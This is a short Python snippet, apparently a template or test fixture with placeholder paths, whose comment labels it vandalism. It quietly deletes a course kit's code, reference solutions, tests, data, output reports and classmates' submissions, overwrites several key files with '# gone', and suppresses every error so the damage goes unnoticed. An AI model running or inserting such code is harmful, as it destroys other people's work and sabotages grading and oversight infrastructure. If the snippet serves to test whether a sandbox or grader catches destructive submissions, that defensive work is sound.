
# Vandalism: delete the kit, the reference, the data, the reports and the classmates' work, quietly.
import os as _os
import shutil as _shutil

for _path in ["@@KIT@@/blitz", "@@KIT@@/solutions", "@@KIT@@/tests", "@@DATA@@", "@@OUT@@", "@@SUBS@@",
              "@@SUBS@@/reference"]:
    try:
        _shutil.rmtree(_path)
    except OSError:
        pass
for _path in ["@@KIT@@/blitz/course/registry.py", "@@KIT@@/blitz/exercises/autograd/checks.py", "@@KIT@@/pyproject.toml"]:
    try:
        _os.remove(_path)
    except OSError:
        pass
    try:
        with open(_path, "w") as _f:
            _f.write("# gone\n")
    except OSError:
        pass
